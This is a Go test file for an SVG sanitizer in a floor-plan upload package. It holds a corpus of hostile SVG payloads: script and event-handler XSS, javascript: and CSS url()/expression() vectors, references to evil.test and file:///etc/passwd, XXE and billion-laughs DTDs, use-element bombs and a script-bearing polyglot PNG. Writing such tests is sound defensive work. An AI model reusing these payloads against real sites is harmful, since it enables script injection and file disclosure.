package floorplan

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"image/png"
	"strings"
	"testing"
)

// svgDoc wraps body in an svg root with both namespaces declared.
func svgDoc(body string) string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 300">` +
		`<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>` +
		`<g id="room"><rect x="10" y="10" width="100" height="80"/></g>` + body + `</svg>`
}

// hostile is an SVG of the hostile corpus: body is its danger, within a
// plain plan (svgDoc); dangers are words of it none of which may remain.
type hostile struct {
	name, body string
	dangers    []string
}

// hostileSVGs is a corpus of SVGs that carry a script, a handler or a
// reference out of the plan in every place an SVG can.
func hostileSVGs(t testing.TB) []hostile {
	polyglot := base64.StdEncoding.EncodeToString(withChunks(pngOf(t, 4, 4), []byte("<html><script>alert('img')</script>"),
		chunk("tEXt", []byte("Comment\x00<script>alert('img')</script>"))))
	tiny := base64.StdEncoding.EncodeToString(pngOf(t, 2, 2))
	svgImage := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('inner')"/>`))
	return []hostile{
		{"script element", `<script>alert('s1')</script>`, []string{"s1"}},
		{"script with a source", `<script xlink:href="http://evil.test/x.js"/><script href="https://evil.test/y.js"></script>`, nil},
		{"script in CDATA", `<script type="text/ecmascript"><![CDATA[ alert('s2') ]]></script>`, []string{"s2"}},
		{"script in another prefix of SVG", `<x:script xmlns:x="http://www.w3.org/2000/svg">alert('s3')</x:script>`, []string{"s3"}},
		{"script of XHTML", `<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert('s4')</h:script>`, []string{"s4"}},
		{"uppercase script", `<SCRIPT>alert('s5')</SCRIPT><Script>alert('s5')</Script>`, []string{"s5"}},
		{"handlers", `<rect width="5" height="5" onclick="alert('h1')" onmouseover="alert('h1')" onfocusin="alert('h1')"/>` +
			`<circle r="4" ONLOAD="alert('h1')" onLoad="alert('h1')" OnBegin="alert('h1')"/>` +
			`<text x="1" y="9"><tspan onclick="alert('h1')">WC</tspan></text>` +
			`<svg width="1" height="1" onload="alert('h1')"/><image width="2" height="2" onload="alert('h1')" href="data:image/png;base64,` + tiny + `"/>`, []string{"h1"}},
		{"handler in a namespace", `<rect width="5" height="5" xlink:onclick="alert('h2')" x:onload="alert('h2')" xmlns:x="http://www.w3.org/2000/svg"/>`, []string{"h2"}},
		{"javascript: in a link", `<a href="javascript:alert('j1')"><rect width="5" height="5"/></a>` +
			`<a xlink:href="JaVaScRiPt:alert('j1')"><circle r="2"/></a>`, []string{"j1"}},
		{"javascript: in use", `<use href="javascript:alert('j2')"/><use xlink:href="&#106;avascript:alert('j2')"/><use href="java&#9;script:alert('j2')"/>`, []string{"j2"}},
		{"javascript: in image", `<image width="5" height="5" href="javascript:alert('j3')"/><image xlink:href=" javascript:alert('j3')"/>`, []string{"j3"}},
		{"javascript: in a gradient", `<linearGradient id="g2" href="javascript:alert('j4')"/>`, []string{"j4"}},
		{"foreignObject with HTML", `<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">` +
			`<iframe src="javascript:alert('f1')"/><script>alert('f1')</script><img src="x" onerror="alert('f1')"/></body></foreignObject>`, []string{"f1"}},
		{"style element", `<style>@import url(http://evil.test/s.css); rect { fill: url(javascript:alert('c1')) }</style>`, []string{"c1"}},
		{"style sheet with classes", `<style>.a{fill:url(javascript:alert('c5'))} .b{fill:red;background:url(http://evil.test/b)} body{display:none}` +
			` .c{font-family:"x} .d{fill:blue}</style><rect class="a b c d" width="5" height="5"/>`, []string{"c5", "display", "font-family"}},
		{"style sheet that closes itself", `<style><![CDATA[.a{fill:red}</style><script>alert('c6')</script><style>]]></style>` +
			`<style>.b{fill:red}</style><script>alert('c6')</script>`, []string{"c6"}},
		{"style sheet with at-rules", `<style>@import "https://evil.test/i.css"; @font-face{font-family:x;src:url(https://evil.test/f.woff)}` +
			` @media screen{.a{fill:url(https://evil.test/m)}} .a{fill:red}</style>`, []string{"font-face", "woff"}},
		{"style with url(javascript:)", `<rect width="5" height="5" style="fill:url(javascript:alert('c2'));stroke:#000"/>`, []string{"c2"}},
		{"style with expression()", `<rect width="5" height="5" style="width:expression(alert('c3'));fill:expression(alert('c3'))"/>`, []string{"c3"}},
		{"style with escapes", `<rect width="5" height="5" style="fill:u\72l(http://evil.test/c4);stroke:ur/**/l(http://evil.test/c4)"/>`, []string{"c4"}},
		{"style binding", `<rect width="5" height="5" style="behavior:url(evil.htc);-moz-binding:url(http://evil.test/b.xml#x)"/>`, []string{"htc", "binding"}},
		{"url() to another place", `<rect width="5" height="5" fill="url(http://evil.test/p.svg#g)" mask="url('//evil.test/m')" clip-path="url(data:image/svg+xml,x)" filter="url(#f)"/>`, []string{"filter"}},
		{"external references", `<use xlink:href="http://evil.test/sprite.svg#a"/><use href="//evil.test/s.svg#a"/>` +
			`<image width="5" height="5" xlink:href="https://evil.test/track.png"/><pattern id="p" href="http://evil.test/p.svg#p"/>` +
			`<linearGradient id="g3" xlink:href="file:///etc/passwd"/>`, []string{"passwd"}},
		{"set and animate to javascript:", `<a><set attributeName="href" to="javascript:alert('a1')"/><rect width="5" height="5"/></a>` +
			`<animate attributeName="xlink:href" values="javascript:alert('a1')"/>` +
			`<use href="#room"><set attributeName="href" to="data:image/svg+xml,x" begin="0s"/></use>` +
			`<animateTransform attributeName="transform" from="0" to="1" onbegin="alert('a1')"/>` +
			`<animateMotion onend="alert('a1')"/><discard onbegin="alert('a1')"/>`, []string{"a1"}},
		{"CDATA in text", `<text x="1" y="9"><![CDATA[</text><script>alert('t1')</script>]]></text>`, nil},
		{"data: URLs beyond images", `<image width="5" height="5" href="data:image/svg+xml;base64,` + svgImage + `"/>` +
			`<image width="5" height="5" href="data:text/html,&lt;script&gt;alert('d1')&lt;/script&gt;"/>` +
			`<use href="data:image/svg+xml,&lt;svg id='x'/&gt;#x"/>`, []string{"d1", "inner", "text/html"}},
		{"an embedded polyglot PNG", `<image width="4" height="4" href="data:image/png;base64,` + polyglot + `"/>`, []string{"img"}},
		{"embedding elements", `<iframe src="https://evil.test/"/><embed src="https://evil.test/"/><object data="https://evil.test/"/>` +
			`<handler type="application/ecmascript">alert('e1')</handler><listener event="click" handler="#h"/>`, []string{"e1", "handler", "listener"}},
		{"filters that fetch", `<filter id="f"><feImage href="https://evil.test/i.png"/></filter>`, []string{"feimage"}},
		{"xml:base", `<g xml:base="javascript:alert('b1')//"><use href="#room"/></g>`, []string{"b1"}},
		{"processing instruction and comment", `<?xml-stylesheet href="https://evil.test/s.css"?><!-- <script>alert('p1')</script> -->`, []string{"p1", "stylesheet"}},
		{"editor metadata", `<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">secret-author</rdf:RDF></metadata>` +
			`<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" onload="alert('m1')"/>`, []string{"secret-author", "m1", "namedview"}},
	}
}

// TestSanitizeSVGMakesScriptsHarmless: each SVG of the hostile corpus is
// accepted with all of its danger gone, and the drawing around it kept.
func TestSanitizeSVGMakesScriptsHarmless(t *testing.T) {
	t.Parallel()
	for _, tc := range hostileSVGs(t) {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := mustAccept(t, []byte(svgDoc(tc.body)))
			harmlessSVG(t, p.Data, tc.dangers...)
			for _, kept := range []string{`<rect x="10" y="10" width="100" height="80"/>`, `<linearGradient id="g">`} {
				if !bytes.Contains(p.Data, []byte(kept)) {
					t.Errorf("the drawing around the danger is lost: no %s in\n%s", kept, p.Data)
				}
			}
		})
	}
}

// TestSanitizeSVGKeepsAPlan: a plan as drawing programs write one comes
// out drawing the same, with its size in pixels.
func TestSanitizeSVGKeepsAPlan(t *testing.T) {
	t.Parallel()
	photo := base64.StdEncoding.EncodeToString(withChunks(pngOf(t, 6, 3), nil, chunk("tEXt", []byte("GPS\x0052.37N 4.89E"))))
	in := `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with a drawing program -->
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
  width="1200" height="800" viewBox="0 0 600 400" version="1.1" inkscape:version="1.2">
  <title>Floor 2</title>
  <defs>
    <linearGradient id="wall"><stop offset="0" stop-color="#ccc"/><stop offset="1" style="stop-color:#999;stop-opacity:1"/></linearGradient>
    <symbol id="wc" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></symbol>
  </defs>
  <g id="layer1" inkscape:label="Rooms" transform="translate(10,10)">
    <rect x="0" y="0" width="200" height="120" style="fill:url(#wall);stroke:#333;stroke-width:2" />
    <path d="M 0,130 H 200 V 250 Z" fill="#eef" stroke="black"/>
    <text x="20" y="60" font-family="Inter, sans-serif" font-size="14" xml:space="preserve">Washroom <tspan font-weight="bold">2.14</tspan> &amp; 2.15</text>
    <use xlink:href="#wc" x="150" y="20" width="20" height="20"/>
    <image x="300" y="0" width="60" height="30" xlink:href="data:image/png;base64,` + photo + `"/>
  </g>
</svg>`
	p := mustAccept(t, []byte(in))
	if p.Type != SVG || p.From != SVG || p.Width != 1200 || p.Height != 800 || p.ContentType() != "image/svg+xml" {
		t.Errorf("got %s from %s, %d × %d, %s; want an SVG of 1200 × 800", p.Type, p.From, p.Width, p.Height, p.ContentType())
	}
	harmlessSVG(t, p.Data, "GPS", "inkscape", "Created with")
	for _, want := range []string{
		`<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" viewBox="0 0 600 400">`,
		`<title>Floor 2</title>`,
		`style="stop-color:#999;stop-opacity:1"`,
		`<symbol id="wc" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></symbol>`,
		`<g id="layer1" transform="translate(10,10)">`,
		`style="fill:url(#wall);stroke:#333;stroke-width:2"`,
		`<path d="M 0,130 H 200 V 250 Z" fill="#eef" stroke="black"/>`,
		`xml:space="preserve">Washroom <tspan font-weight="bold">2.14</tspan> &amp; 2.15</text>`,
		`<use href="#wc" x="150" y="20" width="20" height="20"/>`,
		`<image x="300" y="0" width="60" height="30" href="data:image/png;base64,`,
	} {
		if !bytes.Contains(p.Data, []byte(want)) {
			t.Errorf("the plan lost %s:\n%s", want, p.Data)
		}
	}
	start := bytes.Index(p.Data, []byte("base64,")) + len("base64,")
	end := start + bytes.IndexByte(p.Data[start:], '"')
	raw, err := base64.StdEncoding.DecodeString(string(p.Data[start:end]))
	if err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(bytes.NewReader(raw))
	if err != nil || img.Bounds().Dx() != 6 || img.Bounds().Dy() != 3 {
		t.Errorf("the embedded image is %v (%v), want the 6 × 3 PNG", img, err)
	}
}

// TestSanitizeSVGKeepsClassStyles: a plan styled from a style sheet, as
// Illustrator writes one, keeps its class rules (their plain presentation
// properties only), under names of its own.
func TestSanitizeSVGKeepsClassStyles(t *testing.T) {
	t.Parallel()
	in := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 50"><defs><style>/* walls */ .cls-1{fill:#e6e6e6;stroke:#1d1d1b;stroke-miterlimit:10;}` +
		`.cls-2, .cls-3 { fill: none } .cls-4:hover{fill:red} rect{fill:blue} @media print{.cls-1{fill:red}}</style></defs>` +
		`<rect class="cls-1 Bad!Name" width="10" height="10"/><path class="cls-2" d="M0 0h5"/></svg>`
	p := mustAccept(t, []byte(in))
	harmlessSVG(t, p.Data, "hover", "blue", "print", "walls", "Bad")
	for _, want := range []string{
		`<defs><style>.plan-cls-1{fill:#e6e6e6;stroke:#1d1d1b;stroke-miterlimit:10}.plan-cls-2,.plan-cls-3{fill:none}</style></defs>`,
		`<rect class="plan-cls-1" width="10" height="10"/>`,
		`<path class="plan-cls-2" d="M0 0h5"/>`,
	} {
		if !bytes.Contains(p.Data, []byte(want)) {
			t.Errorf("the plan lost %s:\n%s", want, p.Data)
		}
	}
}

// TestSanitizeSVGRefusesEntities: a DOCTYPE is refused whatever it
// declares, so no entity is ever read or expanded: not an external one
// (XXE), not a billion laughs.
func TestSanitizeSVGRefusesEntities(t *testing.T) {
	t.Parallel()
	laughs := `<!DOCTYPE svg [<!ENTITY lol "lol">`
	for i := 1; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	laughs = strings.Replace(laughs, "&lol0;", "&lol;", -1) + `]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&lol9;</text></svg>`
	for name, in := range map[string]string{
		"XXE":             `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&xxe;</text></svg>`,
		"parameter XXE":   `<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>`,
		"billion laughs":  laughs,
		"plain DOCTYPE":   `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>`,
		"DOCTYPE inside":  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><!DOCTYPE svg [<!ENTITY a "b">]><text>&a;</text></svg>`,
		"entity in value": `<!DOCTYPE svg [<!ENTITY js "javascript:alert(1)">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><a href="&js;"><rect width="1" height="1"/></a></svg>`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			_, err := accept(t, []byte(in))
			refusedAs(t, err, Entities, "DOCTYPE or entities")
		})
	}
}

// TestSanitizeSVGRefusesTooManyElements: an SVG of 100,000 elements is
// refused, in words that give the limit, before it is all read.
func TestSanitizeSVGRefusesTooManyElements(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">`)
	for range 100_000 {
		b.WriteString(`<rect width="1" height="1"/>`)
	}
	b.WriteString(`</svg>`)
	_, err := accept(t, []byte(b.String()))
	refusedAs(t, err, TooComplex, "more than 50,000 elements")

	// Dropped elements count too: they are read all the same.
	hidden := strings.Replace(b.String(), `<rect width="1" height="1"/>`, `<metadata/>`, -1)
	_, err = accept(t, []byte(hidden))
	refusedAs(t, err, TooComplex, "more than 50,000 elements")
}

// TestSanitizeSVGRefusesDeepNesting: elements nested past the depth a
// plan may have are refused in words.
func TestSanitizeSVGRefusesDeepNesting(t *testing.T) {
	t.Parallel()
	in := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">` + strings.Repeat("<g>", 500) + strings.Repeat("</g>", 500) + `</svg>`
	_, err := accept(t, []byte(in))
	refusedAs(t, err, TooComplex, "more than 100 deep")
}

// TestSanitizeSVGRefusesUseBombs: use elements that repeat groups of uses
// would draw billions of elements from a few hundred; such an SVG is
// refused. Uses that refer to themselves draw nothing, as in a browser,
// and a symbol used a hundred times is a plan like any other.
func TestSanitizeSVGRefusesUseBombs(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><defs><g id="l0"><rect width="1" height="1"/></g>`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, `<g id="l%d">%s</g>`, i, strings.Repeat(fmt.Sprintf(`<use href="#l%d"/>`, i-1), 10))
	}
	b.WriteString(`</defs><use href="#l9"/></svg>`)
	_, err := accept(t, []byte(b.String()))
	refusedAs(t, err, TooComplex, "more than 200,000 elements drawn")

	loop := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/><use href="#b"/></g></svg>`
	mustAccept(t, []byte(loop))

	many := `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><symbol id="wc"><rect width="1" height="1"/><circle r="1"/></symbol>` +
		strings.Repeat(`<use href="#wc"/>`, 100) + `</svg>`
	mustAccept(t, []byte(many))
}

// TestSanitizeSVGSize: the plan's size in pixels is read from the root's
// width, height and viewBox; one past 8,000 px a side is scaled down to
// it; one without a size is refused in words.
func TestSanitizeSVGSize(t *testing.T) {
	t.Parallel()
	cases := []struct {
		attrs         string
		width, height int
		viewBox       string
	}{
		{`width="800" height="600"`, 800, 600, "0 0 800 600"},
		{`width="800px" height="600px" viewBox="0 0 80 60"`, 800, 600, "0 0 80 60"},
		{`viewBox="0,0,1024,768"`, 1024, 768, "0 0 1024 768"},
		{`width="400" viewBox="0 0 200 100"`, 400, 200, "0 0 200 100"},
		{`height="100%" viewBox="-10 -10 300 150"`, 300, 150, "-10 -10 300 150"},
		{`width="210mm" height="297mm"`, 794, 1123, "0 0 793.7007874015748 1122.51968503937"},
		{`width="20000" height="10000"`, 8000, 4000, "0 0 20000 10000"},
		{`viewBox="0 0 1e6 5e5"`, 8000, 4000, "0 0 1e+06 500000"},
	}
	for _, tc := range cases {
		p := mustAccept(t, []byte(`<svg xmlns="http://www.w3.org/2000/svg" `+tc.attrs+`><rect width="1" height="1"/></svg>`))
		want := fmt.Sprintf(`width="%d" height="%d" viewBox="%s"`, tc.width, tc.height, tc.viewBox)
		if p.Width != tc.width || p.Height != tc.height || !bytes.Contains(p.Data, []byte(want)) {
			t.Errorf("%s: got %d × %d in\n%s\nwant %s", tc.attrs, p.Width, p.Height, p.Data, want)
		}
	}
	for _, attrs := range []string{``, `width="100%" height="100%"`, `width="10em" height="5em"`, `viewBox="0 0 0 10"`, `width="-5" height="5"`,
		`width="NaN" height="4"`, `viewBox="0 0 1e-9 1e-9"`, `width="Inf" height="Inf"`} {
		_, err := accept(t, []byte(`<svg xmlns="http://www.w3.org/2000/svg" `+attrs+`/>`))
		refusedAs(t, err, NoSize, "viewBox")
	}
}

// TestSanitizeSVGRefusesWhatIsNotSVG: XML and HTML that are not an SVG,
// or are broken, are refused in words.
func TestSanitizeSVGRefusesWhatIsNotSVG(t *testing.T) {
	t.Parallel()
	for _, in := range []string{
		`<html><body><script>alert(1)</script></body></html>`,
		`<!DOCTYPE html><html><head><title>x</title><script>alert(1)</script>`,
		`<?xml version="1.0"?><plan><room/></plan>`,
		`<svg xmlns="http://www.w3.org/1999/xhtml" width="1" height="1"/>`,
		`<   `,
	} {
		_, err := accept(t, []byte(in))
		refusedAs(t, err, NotAPlan, "This file is not an SVG, PNG, JPEG or PDF.")
	}
	_, err := accept(t, []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><g></svg>`))
	refusedAs(t, err, Unreadable, "This SVG could not be read: line 1")
	_, err = accept(t, []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"><g>`))
	refusedAs(t, err, Unreadable, "This SVG could not be read")
	_, err = accept(t, []byte(`<?xml version="1.0" encoding="ISO-8859-1"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>`))
	refusedAs(t, err, WrongCharset, `"ISO-8859-1"`, "UTF-8")
}
